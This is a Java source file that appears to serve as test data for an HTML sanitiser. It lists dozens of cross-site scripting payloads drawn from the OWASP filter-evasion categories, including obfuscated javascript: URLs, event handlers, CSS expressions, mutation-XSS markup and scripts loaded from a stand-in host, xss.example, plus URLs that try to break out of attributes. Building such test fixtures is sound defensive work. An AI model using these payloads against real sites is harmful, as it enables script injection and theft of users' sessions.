package org.khulasa;

import java.util.List;

/**
 * Script-injection vectors, one or more from each category of the OWASP XSS Filter Evasion Cheat
 * Sheet: plain tags, attribute event handlers, URL schemes hidden by case, entities, whitespace
 * and NULs, malformed and half-open tags, style and CSS, other tags that load or run (svg, math,
 * object, embed, iframe, base, meta, link, form), comments and conditional comments, and
 * mutation-XSS shapes that change meaning when re-parsed.
 */
public final class XssVectors {
    private XssVectors() {
    }

    public static final List<String> ALL = List.of(
            // basic script tags, and ways around naive filters
            "<script>alert('XSS')</script>",
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<SCRIPT SRC=//xss.example/.j>",
            "<script>alert(String.fromCharCode(88,83,83))</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
            "\"><script>alert(document.cookie)</script>",
            "'';!--\"<XSS>=&{()}",
            // event handlers and malformed attributes
            "<IMG SRC=x onerror=\"alert('XSS')\">",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "<BODY ONLOAD=alert('XSS')>",
            "<svg/onload=alert('XSS')>",
            "<details open ontoggle=alert(1)>",
            "<p onmouseover=\"alert(1)\" style=\"width:100%\">hover</p>",
            "<a href=\"https://example.com\" onclick=alert(1)>x</a>",
            "<IMG SRC=\"javascript:alert('XSS')\"",
            // javascript: URLs hidden by case, entities, whitespace, NUL
            "<a href=\"javascript:alert('XSS')\">x</a>",
            "<a href=\"JaVaScRiPt:alert('XSS')\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">x</a>",
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">x</a>",
            "<a href=\"jav\tascript:alert('XSS');\">x</a>",
            "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
            "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
            "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
            "<a href=\"java\u0000script:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox('XSS')\">x</a>",
            "<a href=\"livescript:alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            // style and CSS
            "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
            "<XSS STYLE=\"behavior: url(xss.htc);\">",
            "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
            // other tags that load or run
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
            "<BASE HREF=\"javascript:alert('XSS');//\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(2)>go</button></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
            "<video><source onerror=\"alert(1)\"></video>",
            // comments, conditional comments, processing instructions
            "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
            "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            // mutation XSS: markup that changes meaning when parsed again
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<title><img src=x onerror=alert(1)></title>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
            // RTL and invisible characters around a vector
            "\u202E<script>alert(1)</script>\u202C",
            "<scr\u200Bipt>alert(1)</scr\u200Bipt>");

    /** Image URLs that are http(s) but try to break out of an attribute or a URL context. */
    public static final List<String> IMAGE_URLS = List.of(
            "https://example.com/a.jpg?x='onerror='alert(1)",
            "https://example.com/a.jpg#'><script>alert(1)</script>",
            "https://example.com/a.jpg?q=&quot;onerror=&quot;alert(1)",
            "https://example.com/'-alert(1)-'.jpg",
            "https://example.com/a.jpg?%22%3E%3Cscript%3Ealert(1)%3C/script%3E");
}
